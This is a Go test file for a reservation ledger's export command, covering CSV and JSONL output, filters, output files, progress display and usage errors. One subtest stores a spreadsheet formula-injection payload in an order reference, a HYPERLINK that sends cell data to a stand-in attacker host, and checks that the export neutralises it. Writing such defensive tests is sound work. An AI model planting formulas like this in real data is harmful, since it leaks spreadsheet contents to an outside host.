package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/revenueguard/revguard"
)

// runExport runs `revguard export args` on dir and returns stdout and stderr.
func runExport(t *testing.T, dir string, terminal bool, args ...string) (string, string, error) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	c := &ExportCommand{
		Getenv: envMap(map[string]string{"REVGUARD_DATA_DIR": dir}),
		Stdout: &stdout, Stderr: &stderr,
		IsTerminal: func(io.Writer) bool { return terminal },
	}
	err := c.Run(context.Background(), args)
	return stdout.String(), stderr.String(), err
}

func TestExport(t *testing.T) {
	dir := t.TempDir()
	s := openLedgerStack(t, dir, true)
	shoes := s.sale(t, "shoe", 6)
	time.Sleep(2 * time.Millisecond) // a gap in creation times for --since
	hats := s.sale(t, "hat", 3)
	s.catchUp(t)
	s.close(t) // a stopped server's data
	all := append(append([]revguard.Reservation{}, shoes...), hats...)

	t.Run("CSV", func(t *testing.T) {
		out, errOut, err := runExport(t, dir, false)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("output is not CSV: %v\n%s", err, out)
		}
		if strings.Join(recs[0], ",") != "id,sku,customer_id,quantity,status,created_at,expires_at,confirmed_at,released_at,order_ref" {
			t.Fatalf("header %q", recs[0])
		}
		got := map[string][]string{}
		for _, r := range recs[1:] {
			got[r[0]] = r
		}
		if len(recs)-1 != len(all) || len(got) != len(all) {
			t.Fatalf("%d rows (%d ids), want %d", len(recs)-1, len(got), len(all))
		}
		for _, r := range all {
			row := got[r.ID]
			want := []string{r.ID, r.SKU, r.CustomerID, "1", string(r.Status), csvTime(r.CreatedAt), csvTime(r.ExpiresAt),
				csvTime(r.ConfirmedAt), csvTime(r.ReleasedAt), r.OrderRef}
			if strings.Join(row, "|") != strings.Join(want, "|") {
				t.Errorf("row\n got %q\nwant %q", row, want)
			}
		}
		if !strings.Contains(errOut, "exported 9 reservations") {
			t.Errorf("stderr %q: want a summary", errOut)
		}
	})

	t.Run("CSVFormulas", func(t *testing.T) {
		// An order_ref is the customer's own text: a spreadsheet must not run it.
		dir := t.TempDir()
		s := openLedgerStack(t, dir, true)
		ctx := t.Context()
		if _, _, err := s.inv.PutSKU(ctx, "-sale", revguard.SKUUpdate{Stock: 5, PerCustomerLimit: 1, HoldSeconds: 60}); err != nil {
			t.Fatal(err)
		}
		r, _, err := s.inv.Reserve(ctx, revguard.ReserveRequest{SKU: "-sale", CustomerID: "@c", Quantity: 1})
		if err != nil {
			t.Fatal(err)
		}
		const ref = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		if _, err := s.inv.Confirm(ctx, revguard.ConfirmRequest{ID: r.ID, CustomerID: "@c", OrderRef: ref}); err != nil {
			t.Fatal(err)
		}
		s.catchUp(t)
		s.close(t)
		out, _, err := runExport(t, dir, false)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("CSV %q: %v", out, err)
		}
		if row := recs[1]; row[1] != "'-sale" || row[2] != "'@c" || row[9] != "'"+ref {
			t.Errorf("row %q: want sku, customer_id and order_ref each with a leading '", row)
		}
		out, _, err = runExport(t, dir, false, "--format", "jsonl")
		if err != nil || !strings.Contains(out, `"order_ref":"=HYPERLINK(`) || !strings.Contains(out, `"sku":"-sale"`) {
			t.Errorf("jsonl %q, %v: want the values as they are", out, err)
		}
	})

	t.Run("JSONL", func(t *testing.T) {
		out, _, err := runExport(t, dir, false, "--format", "jsonl", "--sku", "shoe")
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if len(lines) != len(shoes) {
			t.Fatalf("%d lines, want %d:\n%s", len(lines), len(shoes), out)
		}
		byID := map[string]revguard.Reservation{}
		for _, r := range shoes {
			byID[r.ID] = r
		}
		prev := ""
		for _, line := range lines {
			var m map[string]any
			if err := json.Unmarshal([]byte(line), &m); err != nil {
				t.Fatalf("line %q: %v", line, err)
			}
			if len(m) != 10 {
				t.Errorf("line %q: %d fields, want the 10 of the reservation object", line, len(m))
			}
			id, _ := m["id"].(string)
			r, ok := byID[id]
			if !ok || id <= prev {
				t.Fatalf("line %q: unknown id, or not in id order", line)
			}
			prev = id
			if m["status"] != string(r.Status) || m["sku"] != "shoe" || m["quantity"] != 1.0 {
				t.Errorf("line %q: want status %s", line, r.Status)
			}
			for _, f := range []string{"confirmed_at", "released_at", "order_ref"} {
				if _, ok := m[f]; !ok {
					t.Errorf("line %q: no %s (null expected when absent)", line, f)
				}
			}
			if r.Status == revguard.StatusHeld && (m["confirmed_at"] != nil || m["order_ref"] != nil) {
				t.Errorf("held reservation with confirmed_at/order_ref: %q", line)
			}
			if r.Status == revguard.StatusConfirmed && m["order_ref"] != r.OrderRef {
				t.Errorf("line %q: order_ref, want %q", line, r.OrderRef)
			}
			if ca, _ := m["created_at"].(string); !strings.HasSuffix(ca, "Z") {
				t.Errorf("created_at %q not in UTC", ca)
			}
		}
	})

	t.Run("Since", func(t *testing.T) {
		since := hats[0].CreatedAt.UTC().Format(time.RFC3339Nano)
		out, _, err := runExport(t, dir, false, "--since", since, "--format", "jsonl")
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(out, "\n"); n != len(hats) {
			t.Fatalf("--since %s: %d lines, want %d", since, n, len(hats))
		}
	})

	t.Run("OutFile", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "ledger.csv")
		out, _, err := runExport(t, dir, false, "--out", path)
		if err != nil {
			t.Fatal(err)
		}
		if out != "" {
			t.Errorf("stdout %q with --out", out)
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if n := bytes.Count(b, []byte("\n")); n != len(all)+1 {
			t.Fatalf("file has %d lines, want %d", n, len(all)+1)
		}
	})

	t.Run("Progress", func(t *testing.T) {
		plain, _, err := runExport(t, dir, false)
		if err != nil {
			t.Fatal(err)
		}
		out, errOut, err := runExport(t, dir, true)
		if err != nil {
			t.Fatal(err)
		}
		if out != plain {
			t.Error("the progress bar changed stdout")
		}
		if !strings.Contains(errOut, "exporting") {
			t.Errorf("stderr on a terminal %q: want a progress bar", errOut)
		}
		if _, errOut, _ := runExport(t, dir, false); strings.Contains(errOut, "exporting") {
			t.Errorf("progress bar drawn on a non-terminal: %q", errOut)
		}
	})

	t.Run("Empty", func(t *testing.T) {
		out, _, err := runExport(t, dir, false, "--sku", "no-such-sku")
		if err != nil || strings.Count(out, "\n") != 1 {
			t.Fatalf("export of nothing: %q, %v; want the header only", out, err)
		}
	})

	t.Run("ErrUsage", func(t *testing.T) {
		for _, args := range [][]string{
			{"--format", "xml"}, {"--sku", "bad sku!"}, {"--since", "yesterday"}, {"--nope"}, {"extra"},
			{"--redis-url", "redis://127.0.0.1:6379/0"}, {"--postgres-url", "postgres://127.0.0.1/x", "--postgres-schema", "a-b"},
			{"--data-dir", dir, "--postgres-url", "postgres://127.0.0.1/x"}, // which stores?
		} {
			_, _, err := runExport(t, dir, false, args...)
			if _, ok := errors.AsType[*usageError](err); !ok {
				t.Errorf("export %q: %v, want a usage error", args, err)
			}
		}
	})

	t.Run("ErrNoLedger", func(t *testing.T) {
		_, _, err := runExport(t, t.TempDir(), false)
		if err == nil || !strings.Contains(err.Error(), "no ledger") {
			t.Fatalf("export of an empty dir: %v", err)
		}
	})

	t.Run("Help", func(t *testing.T) {
		out, _, err := runExport(t, dir, false, "--help")
		if !errors.Is(err, flag.ErrHelp) || !strings.Contains(out, "--format") || !strings.Contains(out, "REVGUARD_DATA_DIR") {
			t.Fatalf("--help: %v\n%s", err, out)
		}
	})
}

// TestExport_BesideRunningServer exports while the write path keeps going.
func TestExport_BesideRunningServer(t *testing.T) {
	dir := t.TempDir()
	s := openLedgerStack(t, dir, true)
	s.sale(t, "a", 5)
	s.catchUp(t)
	done := make(chan error)
	go func() { // started here, ends when the sale is over; the test waits for it
		_, err := s.trySale("b", 20)
		done <- err
	}()
	out, _, err := runExport(t, dir, false, "--format", "jsonl")
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(out, "\n"); n < 5 || n > 25 {
		t.Fatalf("%d lines, want between 5 and 25", n)
	}
}
